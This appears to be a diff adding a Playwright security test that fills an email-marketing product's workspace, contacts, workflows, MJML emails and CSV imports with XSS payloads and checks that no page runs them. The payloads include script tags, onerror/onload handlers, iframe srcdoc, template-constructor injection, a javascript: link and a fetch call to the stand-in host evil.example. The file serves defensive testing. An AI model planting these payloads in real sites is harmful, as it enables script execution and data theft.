@@ -1,0 +1,170 @@
+/** What strangers and colleagues write, shown by every page there is: none of it runs, asks, or calls anywhere. */
+import type { Page } from '@playwright/test'
+import { API_KEY, apiOf } from '../../scripts/product.mjs'
+import { setUp } from './support/people.ts'
+import { expect, test } from './support/product.ts'
+
+test.use({ env: { PERENNIAL_API_KEY: API_KEY } })
+
+const EVIL = 'evil.example'
+/** Each would set the flag, ask something, or call home, if anybody took it for more than a text. */
+const BITE = `window.__bitten=1;alert(1);fetch('https://${EVIL}/fetched')`
+const PAYLOADS = [
+  `"><script>${BITE}</script>`,
+  `<img src=x onerror="${BITE}">`,
+  `<svg onload="${BITE}">`,
+  `'-${BITE}-'`,
+  `</textarea></title></style><iframe srcdoc="<script>top.${BITE}</script>"></iframe>`,
+  `{{constructor.constructor("${BITE.replaceAll('"', "'")}")()}}`,
+] as const
+const WHOLE = PAYLOADS.join(' ')
+const LINK = `javascript:${BITE}`
+const mjml = `<mjml><mj-head><mj-raw><script>${BITE}</script></mj-raw></mj-head><mj-body><mj-section><mj-column>
+<mj-text><script>${BITE}</script><img src="x" onerror="${BITE}"><svg onload="${BITE}"></svg><form action="https://${EVIL}/form"><button>x</button></form>
+<iframe srcdoc="&lt;script&gt;top.${BITE}&lt;/script&gt;"></iframe><meta http-equiv="refresh" content="0;url=https://${EVIL}/refreshed"><base href="https://${EVIL}/">
+Hello {{ contact.first_name | default: "you" }} <a href="https://shop.example/">shop</a></mj-text>
+<mj-text>{{ sender.postal_address }} <a href="{{ unsubscribe_url }}">out</a></mj-text></mj-column></mj-section></mj-body></mjml>`
+
+type Watch = { dialogs: string[]; foreign: string[] }
+
+async function watch(page: Page, home: string): Promise<Watch> {
+  const seen: Watch = { dialogs: [], foreign: [] }
+  page.on('dialog', (dialog) => {
+    seen.dialogs.push(dialog.message())
+    void dialog.dismiss()
+  })
+  page.on('request', (request) => {
+    const url = request.url()
+    if (/^https?:/.test(url) && !url.startsWith(home)) seen.foreign.push(url)
+  })
+  await page.route(`https://${EVIL}/**`, (route) => route.abort())
+  return seen
+}
+
+async function expectUnbitten(page: Page, { dialogs, foreign }: Watch, where: string): Promise<void> {
+  for (const frame of page.frames()) {
+    const isBitten = await frame.evaluate(() => '__bitten' in window).catch(() => false) // a frame without script cannot be asked
+    expect(isBitten, `${where}, in ${frame.url()}`).toBe(false)
+  }
+  expect({ dialogs, foreign }, where).toEqual({ dialogs: [], foreign: [] })
+}
+
+const shown = async (page: Page, url: string) => {
+  await page.goto(url)
+  await page.waitForLoadState('networkidle', { timeout: 1_500 }).catch(() => undefined) // a page with a stream of numbers never rests
+  await page.waitForTimeout(300)
+}
+
+test('nothing that anybody writes is run by a page of the product', async ({ page, product }) => {
+  test.setTimeout(120_000)
+  await setUp(page)
+  const seen = await watch(page, product.url)
+  const api = apiOf(product.url)
+  const { id } = await poisoned(api)
+  const pages = [
+    '/workflows',
+    `/workflows/${id}`,
+    '/contacts',
+    '/contacts/1',
+    '/contacts/import',
+    '/messages',
+    '/inbox',
+    '/inbox/1',
+    '/settings',
+    '/settings/sending',
+    '/settings/keys',
+    '/settings/workspace',
+    '/settings/profile',
+    `/contacts?q=${encodeURIComponent(WHOLE)}`,
+    `/${encodeURIComponent(WHOLE)}`,
+    `/workflows/${encodeURIComponent(LINK)}`,
+  ]
+  for (const url of pages)
+    await test.step(url.slice(0, 60), async () => {
+      await shown(page, url)
+      await expectUnbitten(page, seen, url)
+    })
+  await test.step('the mail itself, as a page of its own and in its frame', async () => {
+    for (const { id: mail } of (await api('GET', '/api/v1/inbox')).items as { id: string }[]) {
+      await shown(page, `/api/v1/inbox/${mail}/html`)
+      await expectUnbitten(page, seen, 'the HTML of a mail')
+      await shown(page, `/inbox/${mail}`)
+      await expectUnbitten(page, seen, 'a mail in the inbox')
+    }
+  })
+  await test.step('a preview', async () => {
+    const made = await page.request.post('/api/v1/preview', {
+      headers: { origin: product.url },
+      data: { email: { subject: WHOLE, preheader: WHOLE, mjml }, contactId: '1' },
+    })
+    const { url } = (await made.json()) as { url: string }
+    await shown(page, url)
+    await expectUnbitten(page, seen, 'a preview')
+  })
+  await test.step('a file with columns and a name like that', async () => {
+    await page.goto('/contacts/import')
+    const buffer = Buffer.from(
+      `"${PAYLOADS[1].replaceAll('"', '""')}",email\n"${PAYLOADS[0].replaceAll('"', '""')}",c@example.com\n`,
+    )
+    await page
+      .locator('input[type=file]')
+      .setInputFiles({ name: `${PAYLOADS[1].replaceAll('/', '')}.csv`, mimeType: 'text/csv', buffer })
+    await page.waitForTimeout(1_000)
+    await expectUnbitten(page, seen, 'a file to import')
+  })
+})
+
+/** One of everything, each text a payload. */
+async function poisoned(api: ReturnType<typeof apiOf>): Promise<{ id: string }> {
+  await api('PATCH', '/api/v1/workspace', { name: WHOLE.slice(0, 90), senderName: PAYLOADS[1] })
+  await api('POST', '/api/v1/api-keys', { name: WHOLE.slice(0, 90), scopes: ['contacts:read'] })
+  await api('POST', '/api/v1/sending-accounts', {
+    kind: 'smtp',
+    name: PAYLOADS[1].slice(0, 90),
+    host: '127.0.0.1',
+    port: 1,
+    security: 'none',
+    username: WHOLE.slice(0, 200),
+  })
+  const step = { id: 'hello', kind: 'send-email', title: WHOLE.slice(0, 190), email: 'hello', next: null }
+  const { id } = await api('POST', '/api/v1/workflows', {
+    format: 'perennial.workflow/1',
+    name: WHOLE.slice(0, 190),
+    triggers: [
+      { id: 't1', kind: 'manual' },
+      { id: 't2', kind: 'event', event: PAYLOADS[1], where: null },
+    ],
+    start: 'hello',
+    steps: [step],
+    emails: { hello: { subject: WHOLE, preheader: WHOLE, mjml } },
+    notes: [{ id: 'n', text: WHOLE, x: 300, y: 300 }],
+  })
+  const contact = {
+    email: 'a@example.com',
+    externalId: PAYLOADS[1],
+    tags: PAYLOADS.map((payload) => payload.slice(0, 90)),
+    attributes: { first_name: PAYLOADS[1], last_name: PAYLOADS[0], [PAYLOADS[2]]: WHOLE, link: LINK },
+    consent: { marketing: { status: 'granted', source: PAYLOADS[1], text: WHOLE } },
+  }
+  await api('PUT', '/api/v1/contacts', contact)
+  await api('POST', '/api/v1/events', {
+    name: PAYLOADS[1],
+    contact: { email: 'a@example.com' },
+    properties: { [PAYLOADS[0]]: WHOLE, url: LINK },
+  })
+  await api(
+    'POST',
+    '/api/v1/contacts/import?consent=unknown&fileName=%3Cimg%20src%3Dx%20onerror%3D%22window.__bitten%3D1%22%3E.csv',
+    `email,"<img src=x onerror=""${BITE}"">"\nb@example.com,<svg onload=alert(1)>\n"<script>${BITE.replaceAll('"', '')}</script>",x\n`,
+  )
+  const published = await api('POST', `/api/v1/workflows/${id}/publish`, {}).catch((error: unknown) => error)
+  expect(String(published), 'the workflow is live, or refused for its scripts').toMatch(/object Object|422/)
+  await api('POST', `/api/v1/workflows/${id}/emails/hello/test`, { to: ['b@example.com'] }).catch((error: unknown) =>
+    expect(String(error)).toMatch(/422/),
+  )
+  await api('POST', `/api/v1/workflows/${id}/enrollments`, { contact: { email: 'a@example.com' } }).catch(
+    (error: unknown) => expect(String(error)).toMatch(/422|409/),
+  )
+  await expect.poll(async () => (await api('GET', '/api/v1/status')).queued, { timeout: 15_000 }).toBe(0)
+  return { id }
+}
